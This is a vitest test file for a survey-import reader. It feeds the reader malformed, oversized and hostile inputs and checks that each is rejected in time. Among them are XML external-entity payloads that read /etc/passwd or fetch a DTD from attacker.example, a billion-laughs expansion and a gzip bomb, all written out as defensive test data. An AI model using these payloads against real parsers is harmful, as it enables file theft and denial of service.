import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { lssFile, lssOf, lssTable } from '#tests/support/limesurvey.ts';
import { ImportFailure } from './import-failure.ts';
import { mostFileBytes } from './limits.ts';
import { readImport } from './read-import.ts';

const longestMs = 10_000;

/** What became of a file, and that it became it soon. */
function outcome(bytes: Buffer): string {
	const from = performance.now();
	const found = (() => {
		try {
			const { content } = readImport(bytes);
			return `${content.questions.length} questions`;
		} catch (problem) {
			if (problem instanceof ImportFailure) return problem.code;
			throw problem;
		}
	})();
	expect(performance.now() - from).toBeLessThan(longestMs);
	return found;
}

const most = mostFileBytes - 20_000;
/** As many as fit into the largest file. */
const filled = (head: string, unit: string, tail = ''): string =>
	head + unit.repeat(Math.floor((most - head.length - tail.length) / Buffer.byteLength(unit))) + tail;
function numbered(unit: (number: number) => string): string {
	let text = '';
	for (let number = 0; text.length < most; number++) text += unit(number);
	return text;
}
/** A file that is mostly one long list. */
const around = (file: string, list: string): string => file.replace('@', () => list);

const head = '<?xml version="1.0" encoding="UTF-8"?><document><LimeSurveyDocType>Survey</LimeSurveyDocType>';
const inTable = (table: string, questions = lssTable('questions', [])): string =>
	lssFile(`${questions}<${table}><rows>@</rows></${table}>`);
const one = (type: string): string =>
	lssTable('questions', [
		{ qid: 1, gid: 1, parent_qid: 0, type, title: 'Q1', question: 'x', language: 'sv' }
	]);
const questionRow = (number: number): string =>
	`<row><qid>${number}</qid><gid>1</gid><type>S</type><title>Q${number}</title><question>x</question><language>sv</language></row>`;
const table = 'class\ttype/scale\tname\trelevance\ttext\tlanguage\n';
const own = '{"format":"lyhord-questionnaire","version":1,"source":"sv","languages":["sv"],"background":[],';

/** Relevance that asks much of an answer with many options. */
const busy = lssOf({
	questions: [
		{ code: 'Q0', type: 'L', answers: Array.from({ length: 300 }, (_, index) => [`${index}`, 'a']) },
		{ code: 'Q1', type: 'M', items: Array.from({ length: 300 }, (_, index) => [`${index}`, 'a']) },
		...Array.from({ length: 190 }, (_, index) => ({
			...{ code: `R${index}`, type: 'S' },
			relevance: Array.from({ length: 200 }, (__, option) =>
				index % 2 ? `Q0=="${option}"` : `Q1_${option}=="Y"`
			).join(' or ')
		}))
	]
});

describe('XML that is out to harm', () => {
	test.each<[string, string, string]>([
		['an external entity', '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>', 'doctype'],
		['an external document type', '<!DOCTYPE d SYSTEM "http://attacker.example/d.dtd"><d/>', 'doctype'],
		[
			'a billion laughs',
			'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]><l>&c;</l>',
			'doctype'
		],
		['a document type without an end', filled('<!DOCTYPE d [', '<!ENTITY a "b">'), 'truncated'],
		['an entity that it does not declare', `${head}<surveys>&evil;</surveys></document>`, 'broken'],
		['an entity that objects answer to', `${head}<surveys>&constructor;</surveys></document>`, 'broken'],
		['elements a million deep', filled(head, '<a>'), 'too-deep'],
		['elements a little too deep', `${'<a>'.repeat(13)}${'</a>'.repeat(13)}`, 'too-deep'],
		[
			'attributes without end',
			around(
				`${head}<a @/></document>`,
				numbered((n) => `a${n}="" `)
			),
			'no-questions'
		],
		['a name without end', filled(`${head}<`, 'a'), 'truncated'],
		['comments without end', filled(head, '<!---->'), 'truncated'],
		['a page of the web', '<!DOCTYPE html><html><body>Hej</body></html>', 'doctype'],
		['another language of XML', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'not-survey']
	])('%s', (_name, text, expected) => expect(outcome(Buffer.from(text))).toBe(expected));
});

describe('files that are no texts', () => {
	const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(1000)]);
	test.each<[string, Buffer, string]>([
		['a zip file, such as .lsa and .xlsx', zip, 'packed'],
		['a gzip file of 50 MB of zeros', gzipSync(Buffer.alloc(50_000_000)), 'packed'],
		['7-Zip', Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), 'packed'],
		['a PDF', Buffer.from('%PDF-1.7'), 'not-text'],
		['an old Word file', Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), 'not-text'],
		['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47]), 'not-text'],
		[
			'bytes of chance',
			Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)),
			'not-text'
		],
		['a NUL in a text', Buffer.from(`${table}Q\tS\tQ1\t\0\tx\tsv\n`), 'not-text'],
		['nothing', Buffer.alloc(0), 'empty'],
		['spaces', Buffer.from(' \n\t '), 'empty'],
		['50 MB', Buffer.alloc(50_000_000, 'x'), 'too-large']
	])('%s', (_name, bytes, expected) => expect(outcome(bytes)).toBe(expected));
});

describe('files that are broken', () => {
	const whole = lssOf({ questions: [{ code: 'Q1', type: 'S' }] });
	const sound = `${table}S\t\tlanguage\t\tsv\t\nQ\tS\tQ1\t\tx\tsv\nQ\tS\tQ2\t\ty\tsv\n`;
	const json = `${own}"title":{"sv":"x"},"review":{},"questions":[]}`;
	test.each<[string, string, string]>([
		['XML cut off', whole.slice(0, -30), 'truncated'],
		['XML cut off in a text', whole.slice(0, whole.indexOf('Fråga Q1') + 3), 'truncated'],
		['XML with a tag too many', whole.replace('</row>', '</row></rows>'), 'broken'],
		['XML followed by more', `${whole}<more/>`, 'broken'],
		['columns cut off', sound.slice(0, -5), 'truncated'],
		['columns cut off in quotation marks', `${table}Q\tS\tQ1\t\t"x\ty\nmore`, 'truncated'],
		['an answer without a question', `${table}A\t0\tA1\t\tx\tsv\n`, 'broken'],
		['JSON cut off', json.slice(0, -10), 'truncated'],
		['JSON with a comma too many', json.replace('[]}', '[],}'), 'broken'],
		['JSON of somebody else', '{"questions":[]}', 'unknown-format'],
		['JSON of a later version', json.replace('"version":1', '"version":2'), 'newer-version'],
		['columns between commas', 'class,type/scale,name,text\nQ,S,Q1,x', 'unknown-format'],
		['words', 'Hej, kan ni lägga in den här enkäten?', 'unknown-format']
	])('%s', (_name, text, expected) => expect(outcome(Buffer.from(text))).toBe(expected));
});

describe('surveys without questions, or with too many', () => {
	const rows = (count: number): string =>
		lssOf({ questions: Array.from({ length: count }, (_, index) => ({ code: `Q${index}`, type: 'S' })) });
	test.each<[string, string, string]>([
		['no questions', lssFile(''), 'no-questions'],
		['only texts to read', lssOf({ questions: [{ code: 'X', type: 'X' }] }), 'no-questions'],
		['no questions in columns', table, 'no-questions'],
		['no questions in JSON', `${own}"title":{"sv":"x"},"review":{},"questions":[]}`, 'no-questions'],
		['200 questions', rows(200), '200 questions'],
		['201 questions', rows(201), 'too-many'],
		['as many questions as fit', around(inTable('questions', ''), numbered(questionRow)), 'too-many'],
		['as many questions as fit in columns', table + numbered((n) => `Q\tS\tq${n}\n`), 'too-many'],
		['a million empty rows', filled(`${head}<questions><rows>`, '<row/>'), 'too-many'],
		[
			'a matrix of 200 rows and 300 columns',
			lssOf({
				questions: [
					{
						...{ code: 'Q1', type: 'F' },
						items: Array.from({ length: 200 }, (_, index) => [`${index}`, `Rad ${index}`]),
						answers: Array.from({ length: 300 }, (_, index) => [`${index}`, `Svar nummer ${index} av 300`])
					}
				]
			}),
			'too-many'
		],
		[
			'a matrix of as many rows as fit',
			around(
				inTable('subquestions', one('F')),
				numbered((n) => `<row><qid>${n + 9}</qid><parent_qid>1</parent_qid><title>${n}</title></row>`)
			),
			'too-many'
		]
	])('%s', (_name, text, expected) => expect(outcome(Buffer.from(text))).toBe(expected));
});

describe('much of one thing is read in time', () => {
	test.each<[string, string, string]>([
		[
			'answers',
			around(
				inTable('answers', one('L')),
				numbered((n) => `<row><qid>1</qid><code>${n}</code><answer>a</answer><language>sv</language></row>`)
			),
			'1 questions'
		],
		[
			'settings',
			around(
				inTable('question_attributes', one('S')),
				numbered((n) => `<row><qid>1</qid><attribute>a${n}</attribute><value>1</value></row>`)
			),
			'1 questions'
		],
		[
			'groups',
			around(
				inTable('groups', one('S')),
				numbered((n) => `<row><gid>${n}</gid><group_name>g${n}</group_name><language>sv</language></row>`)
			).replace('<language>sv', '<language>sv'),
			'1 questions'
		],
		[
			'languages',
			lssFile(
				`${one('S')}<surveys><rows><row><language>sv</language><additional_languages>${numbered((n) => `aa-${n.toString(36).padStart(4, '0')} `)}</additional_languages></row></rows></surveys>`
			),
			'1 questions'
		],
		[
			'links and fields to fill in',
			lssFile(one('S')).replace('x]]>', () => `${numbered((n) => `<a href=${n}>{Q${n}}`)}]]>`),
			'1 questions'
		],
		['conditions', busy, '192 questions'],
		[
			'parentheses',
			lssOf({ questions: [{ code: 'Q1', type: 'S', relevance: '('.repeat(most) }] }),
			'1 questions'
		],
		['quotation marks', filled(`${table}Q\tS\tQ1\t\t`, '"'), '1 questions'],
		['quotation marks and spaces', filled(`${table}Q\tS\tQ1\t\t"`, '" '), '1 questions'],
		['quotation marks before the end', filled(`${table}Q\tS\tQ1\t\t"`, '"a', '\t\n'), '1 questions'],
		['tabs', filled(table, '\t'), 'no-questions'],
		['columns', `${table.trimEnd()}\t${numbered((n) => `c${n}\t`)}\nQ\tS\tQ1\n`, '1 questions'],
		['JSON in JSON', filled('{"format":', '['), 'truncated'],
		['JSON texts', `${own}"title":{"sv":"x"${numbered((n) => `,"k${n}":"x"`)}}}`, 'wrong-shape'],
		[
			'JSON reviews',
			`${own}"title":{"sv":"x"},"questions":[{"key":"k","version":1,"kind":"text","text":{"sv":"x"},"options":[]}],"review":{${numbered((n) => `"k${n}":{},`)}"x":{}}}`,
			'wrong-shape'
		]
	])('%s', (_name, text, expected) => {
		const bytes = Buffer.from(text);
		expect(bytes.length).toBeLessThan(mostFileBytes);
		expect(outcome(bytes)).toBe(expected);
	});
});
